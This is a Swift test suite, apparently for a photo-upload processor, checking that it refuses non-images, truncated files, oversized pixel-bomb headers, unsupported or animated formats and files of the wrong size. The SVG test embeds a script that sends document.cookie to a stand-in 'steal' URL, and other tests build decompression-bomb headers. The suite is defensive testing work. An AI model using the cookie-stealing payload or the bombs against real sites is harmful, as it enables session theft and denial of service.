import Foundation
import Testing
import TsunagariPhotos

/// Uploads that must be refused, each with its own reason, and refused before any pixel
/// is decoded where the header already tells.
@Suite("Refusing bad uploads", .enabled(if: Libvips.shouldRun, Libvips.skipNotice))
struct PhotoRefusalTests {
    let processor = PhotoProcessor()

    func sampleJPEG(width: Int = 640, height: Int = 480) throws -> [UInt8] {
        try PhotoProcessingTests.sample(width: width, height: height).encoded(as: .jpeg(quality: 90))
    }

    @Test("Text is not an image")
    func text() {
        for body in ["Hello, this is my résumé.\n", "{\"photo\": true}", "<html><body>hi</body></html>", "\u{0}\u{1}\u{2}"] {
            let error = photoError { () throws(PhotoError) in try processor.process(Array(body.utf8), kind: .photo) }
            #expect(error == .notAnImage, "\(body)")
        }
        #expect(photoError { () throws(PhotoError) in try processor.process([], kind: .photo) } == .notAnImage)
    }

    @Test("A truncated JPEG or PNG is corrupt")
    func truncated() throws {
        let jpeg = try sampleJPEG()
        for fraction in [0.3, 0.6, 0.95] {
            let cut = Array(jpeg.prefix(Int(Double(jpeg.count) * fraction)))
            #expect(refusal { () throws(PhotoError) in try processor.process(cut, kind: .photo) } == "corrupt", "JPEG cut at \(fraction)")
        }
        #expect(refusal { () throws(PhotoError) in try processor.process(Array(jpeg.prefix(40)), kind: .photo) } == "corrupt")
        let png = try PhotoProcessingTests.sample().encoded(as: .png)
        #expect(refusal { () throws(PhotoError) in try processor.process(Array(png.prefix(png.count / 2)), kind: .photo) } == "corrupt")
    }

    @Test("A 50,000 × 50,000 PNG is refused from its header, without decoding")
    func pngBomb() {
        let bomb = ImageBytes.pngDeclaring(width: 50_000, height: 50_000)
        #expect(bomb.count < 100)
        let clock = ContinuousClock()
        var error: PhotoError?
        let elapsed = clock.measure { error = photoError { () throws(PhotoError) in try processor.process(bomb, kind: .photo) } }
        #expect(error == .tooManyPixels(width: 50_000, height: 50_000, limit: 50_000_000))
        // Allocating 7.5 GB of pixels (or inflating anything) would not be this fast.
        #expect(elapsed < .seconds(1))
        #expect(error?.message == "The image is 50000×50000 pixels; at most 50 megapixels are accepted.")
    }

    @Test("An interlaced PNG, decoded whole, has a quarter of the pixel limit")
    func interlacedPNG() {
        let interlaced = ImageBytes.pngDeclaring(width: 5_000, height: 3_000, interlaced: true)
        #expect(photoError { () throws(PhotoError) in try processor.process(interlaced, kind: .photo) }
            == .tooManyPixels(width: 5_000, height: 3_000, limit: 12_500_000))
        // Not interlaced, the same size passes the header check (and the empty data is corrupt).
        let streamed = ImageBytes.pngDeclaring(width: 5_000, height: 3_000)
        #expect(refusal { () throws(PhotoError) in try processor.process(streamed, kind: .photo) } == "corrupt")
    }

    @Test("A JPEG whose frame header declares 60,000 × 60,000 is refused from its header")
    func jpegBomb() throws {
        let bomb = ImageBytes.jpegDeclaring(try sampleJPEG(), width: 60_000, height: 60_000)
        #expect(photoError { () throws(PhotoError) in try processor.process(bomb, kind: .photo) }
            == .tooManyPixels(width: 60_000, height: 60_000, limit: 50_000_000))
        // Just under the limit passes the header check (the data, 640×480, then runs out: libjpeg
        // fills the rest with grey, which libvips accepts unless the file itself is cut short).
        let underLimit = ImageBytes.jpegDeclaring(try sampleJPEG(), width: 7_000, height: 7_000)
        #expect(refusal { () throws(PhotoError) in try processor.process(underLimit, kind: .photo) } != "too_many_pixels")
    }

    @Test("A lower pixel limit is honoured")
    func customLimit() throws {
        let strict = PhotoProcessor(limits: PhotoLimits(maxPixels: 100_000))
        let input = try sampleJPEG()
        #expect(refusal { () throws(PhotoError) in try strict.process(input, kind: .photo) } == "too_many_pixels")
    }

    @Test("SVG, even with a script, is refused by name, never rendered")
    func svg() {
        let svg = """
            <?xml version="1.0" encoding="UTF-8"?>
            <svg xmlns="http://www.w3.org/2000/svg" width="400" height="400">
              <script type="text/javascript">fetch('https://example.com/steal?c=' + document.cookie)</script>
              <rect width="400" height="400" fill="red"/>
            </svg>
            """
        #expect(photoError { () throws(PhotoError) in try processor.process(Array(svg.utf8), kind: .photo) } == .unsupportedFormat("SVG"))
        let bare = "\u{FEFF}\n  <svg xmlns=\"http://www.w3.org/2000/svg\"><circle r=\"5\"/></svg>"
        #expect(photoError { () throws(PhotoError) in try processor.process(Array(bare.utf8), kind: .photo) } == .unsupportedFormat("SVG"))
    }

    @Test("GIF, TIFF, HEIC, AVIF, BMP and PDF are refused by name")
    func otherFormats() throws {
        let gif = try PhotoProcessingTests.sample(width: 200, height: 200).encoded(as: .gif)
        let cases: [([UInt8], String)] = [
            (gif, "GIF"),
            (ImageBytes.tinyGIF, "GIF"),
            ([0x49, 0x49, 0x2A, 0x00, 0x08, 0x00, 0x00, 0x00] + [UInt8](repeating: 0, count: 64), "TIFF"),
            ([0x00, 0x00, 0x00, 0x18] + Array("ftypheic".utf8) + [UInt8](repeating: 0, count: 64), "HEIC"),
            ([0x00, 0x00, 0x00, 0x1C] + Array("ftypavif".utf8) + [UInt8](repeating: 0, count: 64), "AVIF"),
            (Array("BM".utf8) + [UInt8](repeating: 0, count: 64), "BMP"),
            (Array("%PDF-1.7\n".utf8) + [UInt8](repeating: 0x20, count: 64), "PDF"),
        ]
        for (bytes, name) in cases {
            let error = photoError { () throws(PhotoError) in try processor.process(bytes, kind: .photo) }
            #expect(error == .unsupportedFormat(name))
            #expect(error?.message == "\(name) images are not accepted. Upload a JPEG, PNG or WebP picture.")
        }
    }

    @Test("An animated PNG (acTL before the image data) is refused")
    func animatedPNG() throws {
        let png = try PhotoProcessingTests.sample(width: 300, height: 300).encoded(as: .png)
        #expect(try processor.process(png, kind: .photo).sourceFormat == .png)
        let apng = ImageBytes.insertingACTL(png)
        #expect(photoError { () throws(PhotoError) in try processor.process(apng, kind: .photo) } == .animated(.png))
    }

    @Test("An animated WebP is refused")
    func animatedWebP() throws {
        // Three frames of 300×300, stacked in a 300×900 picture.
        var frames = Raster(width: 300, height: 900, colour: Colour.red)
        frames.fill(CropRect(x: 0, y: 300, width: 300, height: 300), colour: Colour.green)
        frames.fill(CropRect(x: 0, y: 600, width: 300, height: 300), colour: Colour.blue)
        let animation = try frames.encoded(as: .webp(quality: 80), pageHeight: 300)
        #expect(try PhotoInspector.inspect(animation).pages == 3)
        #expect(photoError { () throws(PhotoError) in try processor.process(animation, kind: .photo) } == .animated(.webp))
        // The same pixels as one still picture are fine.
        let still = try frames.encoded(as: .webp(quality: 80))
        #expect(try processor.process(still, kind: .photo).sourceSize == PixelSize(width: 300, height: 900))
    }

    @Test("A 12 MB file is too large, whatever it holds")
    func tooLarge() throws {
        var big = try sampleJPEG()
        big += [UInt8](repeating: 0x55, count: 12 * 1024 * 1024 - big.count)
        let error = photoError { () throws(PhotoError) in try processor.process(big, kind: .photo) }
        #expect(error == .tooLarge(byteCount: 12 * 1024 * 1024, limit: 10 * 1024 * 1024))
        #expect(error?.message == "The file is 12 MB; photos can be at most 10 MB.")
        #expect(photoError { () throws(PhotoError) in try processor.process(Data(big), kind: .banner) }?.code == "too_large")
    }

    @Test("A picture smaller than the use needs is refused")
    func tooSmall() throws {
        let small = try PhotoProcessingTests.sample(width: 80, height: 80).encoded(as: .png)
        #expect(photoError { () throws(PhotoError) in try processor.process(small, kind: .photo) }
            == .tooSmall(width: 80, height: 80, minimum: PixelSize(width: 100, height: 100)))
        // 300 wide is enough for a photo, not for a banner (400×100).
        let narrow = try PhotoProcessingTests.sample(width: 300, height: 300).encoded(as: .jpeg(quality: 80))
        #expect(try processor.process(narrow, kind: .photo).renditions.count == 2)
        #expect(refusal { () throws(PhotoError) in try processor.process(narrow, kind: .banner) } == "too_small")
    }
}
